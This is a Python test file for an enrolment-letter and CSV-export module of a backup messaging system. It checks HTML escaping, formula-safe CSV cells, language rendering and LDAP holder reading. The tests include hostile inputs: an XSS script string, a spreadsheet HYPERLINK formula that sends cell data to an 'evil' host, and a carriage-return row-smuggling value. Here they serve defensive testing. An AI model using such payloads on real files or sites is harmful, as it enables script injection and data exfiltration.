"""Enrolment letters and the CSV export (planb/enrolment), rendered for real.

The letters and the CSV are pure renderings of a list of agents (catalogues, QR code,
planb.csvsafe). Reading the code holders and checking the key against the directory's
hash run against ldap3's offline server (``MOCK_SYNC``, real searches and filters); the
lab test runs them against slapd after a real sync (test_enrol_letters_lab.py).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import logging
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from ldap3 import MOCK_SYNC, Connection, Server

from planb.config import EnrolmentConfig, SiteConfig
from planb.directory.fallback_ldap import Layout
from planb.enrolment.codes import Addresses, Letter, letter_for, letters_for
from planb.enrolment.export import COLUMNS, render_csv
from planb.enrolment.holders import Holder, classify, read_holders, select
from planb.enrolment.letters import by_department, render_letters
from planb.enrolment.source import KeyMismatch, check_key
from planb.enrolment_code import derive_code, format_code, hash_code
from planb.welcome import qr_svg
from tests.unit.test_drills_scenario import make_site

HOSTILE = '<script>alert("x")</script>\'"&'
KEY = bytes(range(32))
NOW = datetime(2026, 11, 30, 6, 0, tzinfo=UTC)
CODE = re.compile(r"[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{4}")


@pytest.fixture
def site(tmp_path: Path) -> SiteConfig:
    return make_site(tmp_path)


def holder(login: str, department: str = "", name: str = "", serial: int = 1,
           **extra: object) -> Holder:
    return Holder(source_id=f"id-{login}", login=login, name=name or login.title(),
                  department=department, serial=serial,
                  expires=NOW + timedelta(days=365), **extra)  # type: ignore[arg-type]


def sample() -> list[Letter]:
    return letters_for([holder("zoe", "Voirie"), holder("alice", "Finances"),
                        holder("bob", ""), holder("Adam", "finances"),
                        holder("carl", "Voirie")], KEY)


# --- the letters --------------------------------------------------------------------------


def test_grouped_by_sorted_department_each_with_a_cover_page_then_letters_by_login(
        site: SiteConfig) -> None:
    groups = [(d, [x.login for x in g]) for d, g in by_department(sample())]
    assert groups == [("Finances", ["alice"]), ("finances", ["Adam"]),
                      ("Voirie", ["carl", "zoe"]), ("", ["bob"])]
    html = render_letters(site, sample()).html
    sheets = re.findall(r'<section class="sheet (cover|letter)">(.*?)</section>', html, re.S)
    kinds = [kind for kind, _ in sheets]
    assert kinds == ["cover", "letter", "cover", "letter", "cover", "letter", "letter",
                     "cover", "letter"]
    covers = [body for kind, body in sheets if kind == "cover"]
    assert "Voirie" in covers[2] and "carl" in covers[2] and "zoe" in covers[2]
    assert "Sans service" in covers[3]  # no department: last, under its own heading
    assert not any(CODE.search(body) for body in covers)  # a cover shows no code
    letter_logins = [re.search(r'class="login">([^<]*)<', body)[1]  # type: ignore[index]
                     for kind, body in sheets if kind == "letter"]
    assert letter_logins == ["alice", "Adam", "carl", "zoe", "bob"]
    # One A4 page per sheet when printed.
    assert "@page{size:A4" in html and ".sheet{" in html and "break-after:page" in html


def test_each_letter_has_its_login_code_addresses_and_a_qr_code_to_the_enrolment_page(
        site: SiteConfig) -> None:
    letters = sample()
    html = render_letters(site, letters).html
    for x in letters:
        assert x.code == format_code(derive_code(KEY, f"id-{x.login}", 1))
        assert html.count(x.code) == 1
    assert "https://matrix.planb.test/enrol/" in html and "https://matrix.planb.test/" in html
    assert "30 novembre 2027" in html  # valid until, as the site's language writes it
    # The QR code is the enrolment page's address: never a code (URLs end up in logs).
    qr = qr_svg(Addresses.of(site).enrol, "x").split(">", 1)[1]
    assert html.count(qr) == len(letters)
    assert "<script" not in html


def test_french_by_default_and_english_on_request(site: SiteConfig) -> None:
    french = render_letters(site, sample())
    assert french.language == "fr" and '<html lang="fr">' in french.html
    for text in ("Votre accès à la messagerie de secours", "Code d’inscription\u00a0: ",
                 "Que faire", "au moins 12 caractères"):
        assert text in french.html, text
    english = render_letters(dataclasses.replace(site, language="en"), sample())
    assert english.language == "en" and '<html lang="en">' in english.html
    for text in ("Your access to the backup messaging", "Enrolment code: ", "What to do",
                 "at least 12 characters"):
        assert text in english.html, text
    assert "Votre accès" not in english.html
    longer = dataclasses.replace(site, enrolment=EnrolmentConfig(password_min_length=16))
    assert "au moins 16 caractères" in render_letters(longer, sample()).html


def test_hostile_names_departments_logins_and_organisation_are_escaped(
        site: SiteConfig) -> None:
    site = dataclasses.replace(site, organisation=HOSTILE)
    letters = letters_for([holder("x" + HOSTILE, HOSTILE, name=HOSTILE)], KEY)
    html = render_letters(site, letters).html
    assert "<script" not in html and 'alert("x")' not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&#x27;&quot;&amp;" in html
    # Every attribute value is still well-formed: no quote from the data got out.
    for tag in re.findall(r"<[a-z][^>]*>", html):
        assert tag.count('"') % 2 == 0, tag


# --- the CSV ----------------------------------------------------------------------------


def test_csv_rows_are_formula_safe_and_carry_the_codes(site: SiteConfig) -> None:
    letters = letters_for([
        holder("alice", "Finances", name='=HYPERLINK("http://evil/?"&A1,"clic")',
               mail="alice@example.fr", mobile="+33 6 12 34 56 78"),
        holder("@bob", "-Voirie", name="Bob\r=1+1"),
    ], KEY)
    text = render_csv(site, letters)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    body = [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
    assert [r["login"] for r in body] == ["'@bob", "alice"]  # "-Voirie" < "Finances"
    bob, alice = body
    assert alice["name"].startswith("'=HYPERLINK") and alice["mobile"] == "'+33 6 12 34 56 78"
    assert alice["mail"] == "alice@example.fr" and bob["department"] == "'-Voirie"
    assert bob["name"] == "Bob =1+1" and len(rows) == 3  # no row smuggled in by a CR
    for row, letter in zip(body, reversed(letters), strict=True):
        assert row["code"] == letter.code and CODE.fullmatch(row["code"])
        assert row["enrol_url"] == "https://matrix.planb.test/enrol/"
        assert row["valid_until"] == "2027-11-30" and row["letter_no"] == "1"
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --- no code where it does not belong ----------------------------------------------------


def test_no_code_in_log_records_reprs_or_errors(site: SiteConfig,
                                                caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    conn, layout = directory([holder("alice", "Finances"), holder("bob", "Voirie")],
                             key=KEY)
    scan = read_holders(conn, layout, max_failures=5, now=NOW)
    letters = letters_for(scan.live, KEY)
    render_letters(site, letters)
    render_csv(site, letters)
    assert check_key(conn, layout, letters[0]) is True
    wrong = letter_for(scan.live[1], bytes(32))
    with pytest.raises(KeyMismatch) as raised:
        check_key(conn, layout, wrong)
    codes = {x.code for x in letters} | {wrong.code}
    shown = [caplog.text, str(raised.value), raised.value.hint or "", repr(letters),
             repr(wrong)]
    for code in codes:
        for variant in (code, code.replace("-", "")):
            assert not any(variant in text for text in shown), variant
    assert caplog.records  # something was logged, and it was checked


# --- reading the holders from the directory ----------------------------------------------

SUFFIX = "dc=planb,dc=lab"


def directory(holders: list[Holder], *, key: bytes, extra: dict[str, dict[str, object]]
              | None = None) -> tuple[Connection, Layout]:
    """ldap3's offline server with the fallback's layout and the given code holders."""
    layout = Layout(SUFFIX)
    conn = Connection(Server("offline"), user=f"cn=planb-sync,ou=services,{SUFFIX}",
                      password="pw", client_strategy=MOCK_SYNC)
    conn.strategy.add_entry(f"cn=planb-sync,ou=services,{SUFFIX}",
                            {"userPassword": "pw", "sn": "s"})
    for h in holders:
        attrs: dict[str, object] = {
            "objectClass": ["inetOrgPerson", "planbAgent"], "uid": h.login, "cn": h.name,
            "sn": "-", "planbSourceId": h.source_id, "planbEnrolmentSerial": str(h.serial),
            "planbEnrolmentCode": hash_code(derive_code(key, h.source_id, h.serial)),
            "planbEnrolmentExpires": f"{h.expires:%Y%m%d%H%M%SZ}" if h.expires else [],
            "planbEnrolmentFailures": str(h.failures) if h.failures else [],
        }
        if h.department:
            attrs["departmentNumber"] = h.department
        if not h.enabled:
            attrs["pwdAccountLockedTime"] = "000001010000Z"
        attrs.update((extra or {}).get(h.login, {}))
        conn.strategy.add_entry(layout.person_dn(h.login),
                                {k: v for k, v in attrs.items() if v != []})
    assert conn.bind()
    return conn, layout


def test_live_codes_only_from_the_directory(site: SiteConfig) -> None:
    past = NOW - timedelta(days=1)
    conn, layout = directory([
        holder("alice", "Finances"), holder("bob", "Voirie", serial=3),
        Holder("id-old", "old", "Old", "Voirie", serial=1, expires=past),
        holder("tries", "Voirie", failures=5), holder("gone", "Voirie", enabled=False),
    ], key=KEY, extra={"bob": {"displayName": "Bob Martin", "mobile": "+33 6"}})
    conn.strategy.add_entry(layout.person_dn("enrolled"), {  # no code: not a holder
        "objectClass": ["inetOrgPerson", "planbAgent"], "uid": "enrolled", "sn": "-",
        "planbSourceId": "id-enrolled", "planbEnrolmentSerial": "2"})
    scan = read_holders(conn, layout, max_failures=5, now=NOW)
    assert [h.login for h in scan.live] == ["alice", "bob"]
    assert (scan.expired, scan.locked, scan.disabled) == (["old"], ["tries"], ["gone"])
    bob = scan.live[1]
    assert (bob.name, bob.department, bob.mobile, bob.serial) == ("Bob Martin", "Voirie",
                                                                  "+33 6", 3)
    assert letter_for(bob, KEY).code == format_code(derive_code(KEY, "id-bob", 3))
    chosen, missing = select(scan.live, departments=["voirie"])
    assert [h.login for h in chosen] == ["bob"] and missing == []
    chosen, missing = select(scan.live, logins=["ALICE", "tries"])
    assert [h.login for h in chosen] == ["alice"] and missing == ["tries"]
    # A locked code is live again below max_failures.
    assert "tries" in [h.login for h in classify([{
        "uid": ["tries"], "planbSourceId": ["id-tries"], "planbEnrolmentSerial": ["1"],
        "planbEnrolmentFailures": ["4"]}], now=NOW, max_failures=5).live]
